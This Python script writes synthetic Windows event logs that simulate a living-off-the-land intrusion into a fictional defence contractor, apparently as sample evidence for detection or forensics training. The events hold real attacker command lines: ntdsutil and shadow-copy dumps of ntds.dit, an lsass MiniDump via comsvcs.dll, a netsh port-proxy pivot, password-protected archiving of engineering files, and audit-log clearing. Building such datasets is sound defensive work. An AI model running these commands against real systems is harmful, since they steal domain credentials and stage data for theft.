#!/usr/bin/env python3
"""Writes the sample evidence in samples/intrusion/: a simulated living-off-the-land
intrusion into a defence contractor's network, in the style of the 2023 Five Eyes
advisory on Volt Typhoon, mixed with ordinary activity. Every event is invented
here. Three JSON-lines layouts, as real exports come:
  sysmon-ws-eng-07.jsonl   evtx_dump layout (Event.System / Event.EventData)
  security-dc01.jsonl      NXLog layout (flat, Hostname, SourceName)
  winlogbeat-fs01.jsonl    Winlogbeat / ECS layout (winlog.event_data.*)
Run it again to regenerate them; the output is deterministic."""
import hashlib, json, os

HERE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "intrusion")
SYSMON_GUID = "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
record = [1000]

def sysmon(ts, eid, host, data):
    record[0] += 1
    return {"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": SYSMON_GUID}},
            "EventID": eid, "Version": 5, "Level": 4, "Task": eid, "Opcode": 0,
            "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": ts}},
            "EventRecordID": record[0], "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": 3012, "ThreadID": 4120}},
            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": host,
            "Security": {"#attributes": {"UserID": "S-1-5-18"}}},
        "EventData": data}}

pid = [4000]
def proc(ts, host, image, cmd, parent, parent_cmd, user, cwd="C:\\Windows\\system32\\", integrity="High"):
    pid[0] += 4
    return sysmon(ts, 1, host, {
        "RuleName": "-", "UtcTime": ts.replace("T", " ")[:23],
        "ProcessGuid": "7E1A3C44-%04X-65F0-%04X-000000000B00" % (pid[0] % 65536, pid[0] * 7 % 65536),
        "ProcessId": pid[0], "Image": image, "CommandLine": cmd, "CurrentDirectory": cwd,
        "User": user, "LogonGuid": "7E1A3C44-1A2B-65F0-4F21-1D0000000000", "LogonId": "0x1d214f",
        "TerminalSessionId": 0, "IntegrityLevel": integrity,
        "Hashes": "SHA256=" + hashlib.sha256(image.encode()).hexdigest().upper(),
        "ParentProcessGuid": "7E1A3C44-0F00-65F0-2A00-000000000B00", "ParentProcessId": 2240,
        "ParentImage": parent, "ParentCommandLine": parent_cmd, "ParentUser": user})

WS = "WS-ENG-07.corp.acme-defense.example"
DC = "DC01.corp.acme-defense.example"
FS = "FS01.corp.acme-defense.example"
ADMIN = "ACME\\svc-backup"
CMD = "C:\\Windows\\System32\\cmd.exe"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
WMIPRVSE = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"

sysmon_events = [
    proc("2026-03-10T08:55:02.114000Z", WS, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
         "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", "C:\\Windows\\explorer.exe",
         "C:\\Windows\\Explorer.EXE", "ACME\\j.harlow", "C:\\Users\\j.harlow\\", "Medium"),
    proc("2026-03-10T09:12:40.503000Z", WS, "C:\\Windows\\System32\\net.exe",
         "net group \"Domain Admins\" /domain", CMD, "cmd.exe /c", ADMIN),
    proc("2026-03-10T09:12:40.541000Z", WS, "C:\\Windows\\System32\\net1.exe",
         "C:\\Windows\\system32\\net1 group \"Domain Admins\" /domain", "C:\\Windows\\System32\\net.exe",
         "net group \"Domain Admins\" /domain", ADMIN),
    proc("2026-03-10T09:13:05.771000Z", WS, "C:\\Windows\\System32\\wbem\\WMIC.exe",
         "wmic /node:DC01 /user:ACME\\svc-backup process call create \"cmd.exe /c ntdsutil \\\"ac i ntds\\\" ifm \\\"create full C:\\Windows\\Temp\\pro\\\" q q\"",
         CMD, "cmd.exe /c", ADMIN),
    proc("2026-03-10T09:13:06.020000Z", DC, "C:\\Windows\\System32\\ntdsutil.exe",
         "ntdsutil  \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\pro\" q q", CMD,
         "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\pro\" q q", ADMIN),
    proc("2026-03-10T09:20:11.310000Z", DC, "C:\\Windows\\System32\\vssadmin.exe",
         "vssadmin create shadow /for=C:", CMD, "cmd.exe /c vssadmin create shadow /for=C:", ADMIN),
    proc("2026-03-10T09:21:47.002000Z", DC, "C:\\Windows\\System32\\wbem\\WMIC.exe",
         "wmic shadowcopy call create Volume=C:\\", WMIPRVSE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", ADMIN),
    proc("2026-03-10T09:22:30.815000Z", DC, CMD,
         "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\Windows\\Temp\\pro\\ntds.dit",
         WMIPRVSE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", ADMIN),
    proc("2026-03-10T09:22:41.077000Z", DC, CMD,
         "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SYSTEM C:\\Windows\\Temp\\pro\\SYSTEM.hiv",
         WMIPRVSE, "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", ADMIN),
    proc("2026-03-10T09:25:33.640000Z", DC, "C:\\Windows\\System32\\ldifde.exe",
         "ldifde -f C:\\Windows\\Temp\\users.ldf -p subtree -r \"(objectClass=user)\"", CMD, "cmd.exe /c", ADMIN),
    proc("2026-03-10T09:26:02.118000Z", DC, "C:\\Windows\\System32\\dsquery.exe",
         "dsquery * -filter \"(objectClass=computer)\" -attr * -limit 0", CMD, "cmd.exe /c", ADMIN),
    proc("2026-03-10T09:31:15.900000Z", DC, "C:\\Windows\\System32\\wevtutil.exe",
         "wevtutil qe security /rd:true /f:text /q:\"*[System[(EventID=4624)]]\"", CMD, "cmd.exe /c", ADMIN),
    proc("2026-03-10T09:32:40.257000Z", DC, PS,
         "powershell -nop -c \"Get-EventLog -LogName Security -InstanceId 4624 -Newest 500 | Select-Object -ExpandProperty Message\"",
         CMD, "cmd.exe /c", ADMIN),
    proc("2026-03-10T09:40:07.455000Z", DC, "C:\\Windows\\System32\\rundll32.exe",
         "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full",
         CMD, "cmd.exe /c", ADMIN),
    proc("2026-03-10T09:52:19.030000Z", DC, "C:\\Windows\\Temp\\7z.exe",
         "C:\\Windows\\Temp\\7z.exe a -pAcme2026! -mhe=on C:\\Windows\\Temp\\pro.7z C:\\Windows\\Temp\\pro",
         CMD, "cmd.exe /c", ADMIN, "C:\\Windows\\Temp\\"),
    proc("2026-03-10T10:05:44.812000Z", WS, "C:\\Windows\\System32\\netsh.exe",
         "netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=50100 connectaddress=10.20.1.10 connectport=3389",
         CMD, "cmd.exe /c", ADMIN),
    sysmon("2026-03-10T10:05:44.910000Z", 13, WS, {
        "RuleName": "-", "EventType": "SetValue", "UtcTime": "2026-03-10 10:05:44.910",
        "ProcessGuid": "7E1A3C44-40F8-65F0-1C00-000000000B00", "ProcessId": 4088,
        "Image": "C:\\Windows\\System32\\netsh.exe",
        "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/50100",
        "Details": "10.20.1.10/3389", "User": ADMIN}),
    sysmon("2026-03-10T10:08:12.400000Z", 11, WS, {
        "RuleName": "-", "UtcTime": "2026-03-10 10:08:12.400", "ProcessGuid": "7E1A3C44-4100-65F0-1C00-000000000B00",
        "ProcessId": 4420, "Image": CMD, "TargetFilename": "C:\\Users\\Public\\Music\\sysupd.exe",
        "CreationUtcTime": "2026-03-10 10:08:12.400", "User": ADMIN}),
    proc("2026-03-10T10:08:30.118000Z", WS, "C:\\Users\\Public\\Music\\sysupd.exe",
         "C:\\Users\\Public\\Music\\sysupd.exe -c C:\\Users\\Public\\Music\\sysupd.ini", CMD, "cmd.exe /c", ADMIN,
         "C:\\Users\\Public\\Music\\"),
    sysmon("2026-03-10T10:08:31.502000Z", 3, WS, {
        "RuleName": "-", "UtcTime": "2026-03-10 10:08:31.502", "ProcessGuid": "7E1A3C44-4104-65F0-1C00-000000000B00",
        "ProcessId": 4424, "Image": "C:\\Users\\Public\\Music\\sysupd.exe", "User": ADMIN, "Protocol": "tcp",
        "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.20.7.31", "SourceHostname": WS,
        "SourcePort": 50233, "SourcePortName": "-", "DestinationIsIpv6": "false", "DestinationIp": "203.0.113.66",
        "DestinationHostname": "-", "DestinationPort": 443, "DestinationPortName": "https"}),
    proc("2026-03-10T10:47:18.262000Z", WS, "C:\\Program Files\\7-Zip\\7z.exe",
         "\"C:\\Program Files\\7-Zip\\7z.exe\" x C:\\Users\\j.harlow\\Downloads\\bracket_drawings.7z -oC:\\Users\\j.harlow\\Documents\\bracket",
         "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "ACME\\j.harlow", "C:\\Users\\j.harlow\\", "Medium"),
    proc("2026-03-10T11:02:55.580000Z", WS, "C:\\Windows\\System32\\vssadmin.exe",
         "vssadmin list shadows /for=C:", CMD, "cmd.exe", "ACME\\it.tperez"),
    proc("2026-03-10T11:30:00.001000Z", WS, "C:\\Windows\\System32\\svchost.exe",
         "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\System32\\services.exe",
         "C:\\Windows\\system32\\services.exe", "NT AUTHORITY\\SYSTEM"),
]

AUDITING = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}")
EVENTLOG = ("Microsoft-Windows-Eventlog", "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}")

def nxlog(ts, eid, host, message, data, keywords="0x8020000000000000", provider=AUDITING):
    ev = {"SourceName": provider[0],
          "ProviderGuid": provider[1], "Level": "0" if provider == AUDITING else "4", "Keywords": keywords,
          "Channel": "Security", "Hostname": host, "TimeCreated": ts, "@timestamp": ts, "EventID": eid,
          "Message": message}
    ev.update(data)
    return ev

def failed_logon(ts, user, ip, workstation):
    return nxlog(ts, 4625, DC, "An account failed to log on.",
                 {"TargetUserName": user, "TargetDomainName": "ACME", "LogonType": "3", "Status": "0xc000006d",
                  "IpAddress": ip, "WorkstationName": workstation}, "0x8010000000000000")

def network_logon(ts, host, user, logon_id, ip="10.20.7.31", workstation="WS-ENG-07"):
    return nxlog(ts, 4624, host, "An account was successfully logged on.",
                 {"TargetUserName": user, "TargetDomainName": "ACME", "LogonType": "3",
                  "TargetLogonId": logon_id, "IpAddress": ip, "WorkstationName": workstation,
                  "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM"})

PLM = "PLM01.corp.acme-defense.example"
HR = "HR-APP02.corp.acme-defense.example"

security_events = [
    # Ordinary: a user mistypes a new password twice, then logs on; an IT admin
    # logs on to two servers. Neither is a correlation.
    failed_logon("2026-03-10T08:41:12.118Z", "j.harlow", "10.20.7.31", "WS-ENG-07"),
    failed_logon("2026-03-10T08:41:20.604Z", "j.harlow", "10.20.7.31", "WS-ENG-07"),
    network_logon("2026-03-10T08:41:31.877Z", DC, "j.harlow", "0x1b0a11"),
    network_logon("2026-03-10T08:47:02.310Z", FS, "it.tperez", "0x2a1b44", "10.20.3.12", "IT-LAP-03"),
    network_logon("2026-03-10T08:49:40.512Z", PLM, "it.tperez", "0x3c2e05", "10.20.3.12", "IT-LAP-03"),
    # The intrusion: password guessing against svc-backup until it works...
    failed_logon("2026-03-10T09:11:40.015Z", "svc-backup", "10.20.7.31", "WS-ENG-07"),
    failed_logon("2026-03-10T09:11:44.730Z", "svc-backup", "10.20.7.31", "WS-ENG-07"),
    failed_logon("2026-03-10T09:11:49.402Z", "svc-backup", "10.20.7.31", "WS-ENG-07"),
    failed_logon("2026-03-10T09:11:53.861Z", "svc-backup", "10.20.7.31", "WS-ENG-07"),
    failed_logon("2026-03-10T09:11:58.221Z", "svc-backup", "10.20.7.31", "WS-ENG-07"),
    network_logon("2026-03-10T09:12:01.903Z", DC, "svc-backup", "0x1d214f"),
    # ... then the stolen account fans out over the network (events forwarded
    # from each server's Security log through the same collector).
    network_logon("2026-03-10T09:14:10.442Z", FS, "svc-backup", "0x4d11a0"),
    network_logon("2026-03-10T09:15:30.087Z", PLM, "svc-backup", "0x51c7e2"),
    network_logon("2026-03-10T09:16:02.659Z", HR, "svc-backup", "0x39f0b7"),
    nxlog("2026-03-10T09:13:06.001Z", 4688, DC, "A new process has been created.",
          {"NewProcessName": "C:\\Windows\\System32\\ntdsutil.exe",
           "CommandLine": "ntdsutil  \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\pro\" q q",
           "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "SubjectUserName": "svc-backup",
           "SubjectDomainName": "ACME", "TokenElevationType": "%%1936"}),
    nxlog("2026-03-10T10:15:27.442Z", 1102, DC, "The audit log was cleared.",
          {"SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1107", "SubjectUserName": "svc-backup",
           "SubjectDomainName": "ACME", "SubjectLogonId": "0x2c8a71"}, "0x4020000000000000", EVENTLOG),
]

def beat(ts, eid, host, provider, channel, data):
    return {"@timestamp": ts, "event": {"code": str(eid), "kind": "event", "provider": provider},
            "host": {"name": host.split(".")[0].lower()},
            "winlog": {"channel": channel, "event_id": eid, "computer_name": host, "provider_name": provider,
                       "record_id": 50000 + eid, "event_data": data},
            "message": "sample"}

winlogbeat_events = [
    beat("2026-03-10T09:58:10.250Z", 5145, FS, "Microsoft-Windows-Security-Auditing", "Security",
         {"SubjectUserName": "svc-backup", "SubjectDomainName": "ACME", "ShareName": "\\\\*\\Engineering",
          "RelativeTargetName": "Programs\\X-47\\airframe_rev7.step", "IpAddress": "10.20.7.31",
          "AccessMask": "0x120089"}),
    beat("2026-03-10T10:01:42.733Z", 1, FS, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational",
         {"Image": "C:\\Program Files\\WinRAR\\Rar.exe",
          "CommandLine": "rar.exe a -hpS3cret -r C:\\PerfLogs\\eng.rar \\\\FS01\\Engineering\\Programs\\X-47",
          "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "ACME\\svc-backup", "IntegrityLevel": "High"}),
    beat("2026-03-10T10:03:15.604Z", 4104, FS, "Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational",
         {"MessageNumber": "1", "MessageTotal": "1",
          "ScriptBlockText": "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4624} -MaxEvents 300 | "
                             "ForEach-Object { $_.Properties[5].Value + ' ' + $_.Properties[18].Value }",
          "ScriptBlockId": "3f9c2a71-5d4e-4b8a-9c1f-7e2d6b0a8c45", "Path": ""}),
]

os.makedirs(HERE, exist_ok=True)
for name, events in [("sysmon-ws-eng-07.jsonl", sysmon_events), ("security-dc01.jsonl", security_events),
                     ("winlogbeat-fs01.jsonl", winlogbeat_events)]:
    with open(os.path.join(HERE, name), "w", newline="\n") as f:
        for e in events:
            f.write(json.dumps(e, ensure_ascii=False, separators=(",", ":")) + "\n")
